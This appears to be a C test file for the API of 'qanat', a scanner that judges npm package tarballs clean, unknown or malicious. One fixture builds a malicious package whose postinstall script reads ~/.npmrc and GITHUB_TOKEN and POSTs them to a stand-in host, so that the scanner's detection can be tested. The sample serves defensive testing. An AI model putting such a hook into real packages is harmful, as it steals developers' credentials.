/* test-api.c - the public API as a program outside uses it. */
#include <errno.h>

#include "base/buf.h"
#include "qanat/qanat.h"
#include "tarball.h"
#include "test.h"

static struct qanat *loaded;

static struct qanat *q(void)
{
        char why[200] = "";

        if (!loaded && qanat_new(TEST_DATA, &loaded, why, sizeof why) < 0)
                fail_msg("%s", why);
        return loaded;
}

static void end(struct qn_buf *tar)
{
        qn_buf_fill(tar, 0, 1024);
        ASSERT_EQ(qn_buf_error(tar), 0);
}

TEST(data_that_is_not_there)
{
        struct qanat *none = NULL;
        char why[200] = "";

        ASSERT_TRUE(qanat_new("/nonexistent", &none, why, sizeof why) < 0);
        ASSERT_NULL(none);
        ASSERT_TRUE(*why);
        ASSERT_TRUE(qanat_new("/nonexistent", &none, NULL, 0) < 0);
}

TEST(what_is_no_package_is_unknown)
{
        static const char *const bad[] = { "", "hello", "\x1f\x8b\x08" };

        for (size_t i = 0; i < QN_ARRAY_SIZE(bad); i++) {
                struct qanat_result *r = NULL;

                ASSERT_EQ(qanat_check(q(), bad[i], strlen(bad[i]), NULL, &r), 0);
                ASSERT_EQ(qanat_verdict(r), QANAT_UNKNOWN);
                ASSERT_TRUE(strstr(qanat_json(r), "\"verdict\":\"unknown\""));
                qanat_result_free(r);
        }
}

TEST(wrong_integrity)
{
        _cleanup_(qn_buf_done) struct qn_buf tar = QN_BUF_INIT(TB_MAX);
        struct qanat_result *r = NULL;

        tb_file(&tar, "package/package.json", "{\"name\":\"a\",\"version\":\"1.0.0\"}");
        end(&tar);
        ASSERT_EQ(qanat_check(q(), tar.p, tar.n, "sha512-AAAA", &r), 0);
        ASSERT_TRUE(qanat_verdict(r) >= QANAT_UNKNOWN);
        qanat_result_free(r);
}

TEST(clean_and_malicious)
{
        _cleanup_(qn_buf_done) struct qn_buf good = QN_BUF_INIT(TB_MAX), bad = QN_BUF_INIT(TB_MAX);
        struct qanat_result *r = NULL;

        tb_file(&good, "package/package.json",
                "{\"name\":\"good\",\"version\":\"1.0.0\",\"main\":\"a.js\"}");
        tb_file(&good, "package/a.js", "module.exports = (a, b) => a + b;\n");
        end(&good);
        ASSERT_EQ(qanat_check(q(), good.p, good.n, NULL, &r), 0);
        ASSERT_EQ(qanat_verdict(r), QANAT_CLEAN);
        ASSERT_TRUE(strstr(qanat_json(r),
                           "\"name\":\"good\",\"version\":\"1.0.0\",\"integrity\":\"sha512-"));
        qanat_result_free(r);

        tb_file(&bad, "package/package.json",
                "{\"name\":\"bad\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node "
                "s.js\"}}");
        tb_file(&bad, "package/s.js",
                "const fs = require('fs'), home = require('os').homedir();\n"
                "const t = fs.readFileSync(home + '/.npmrc') + process.env.GITHUB_TOKEN;\n"
                "require('https').request('https://x.invalid/', { method: 'POST' }).end(t);\n");
        end(&bad);
        ASSERT_EQ(qanat_check(q(), bad.p, bad.n, NULL, &r), 0);
        ASSERT_EQ(qanat_verdict(r), QANAT_MALICIOUS);
        ASSERT_STR(qn_str_c(qanat_verdict_name(qanat_verdict(r))), "malicious");
        ASSERT_TRUE(qanat_score(r) >= 80);
        qanat_result_free(r);
}

TEST(freeing)
{
        loaded = qanat_free(loaded);
        ASSERT_NULL(loaded);
        ASSERT_NULL(qanat_result_free(NULL));
}
